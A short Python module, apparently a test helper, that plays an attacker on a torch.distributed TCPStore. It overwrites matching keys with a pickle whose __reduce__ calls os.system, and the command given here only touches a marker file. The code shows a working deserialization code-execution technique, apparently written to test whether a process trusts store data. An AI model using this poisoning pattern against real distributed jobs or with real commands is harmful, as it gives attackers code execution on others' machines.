"""A stranger on the machine or its network: what it writes and where it connects."""

from __future__ import annotations

import os
import pickle
import time
from pathlib import Path

import torch.distributed as dist


class Runs:
    """Unpickled, it runs a command, which makes a file."""

    def __init__(self, harm: Path) -> None:
        self.harm = harm

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.harm}",)


def poison(port: int, word: str, harm: Path, until_s: float) -> list[str]:
    """Write a pickle that runs a command to every key of a store that has this word in it; the keys that were there."""
    store = dist.TCPStore("127.0.0.1", port, is_master=False)
    deadline = time.monotonic() + until_s
    while time.monotonic() < deadline:
        if found := [key for key in store.list_keys() if word in key]:
            for key in found:
                store.set(key, pickle.dumps(Runs(harm)))
            return found
        time.sleep(0.002)
    return []
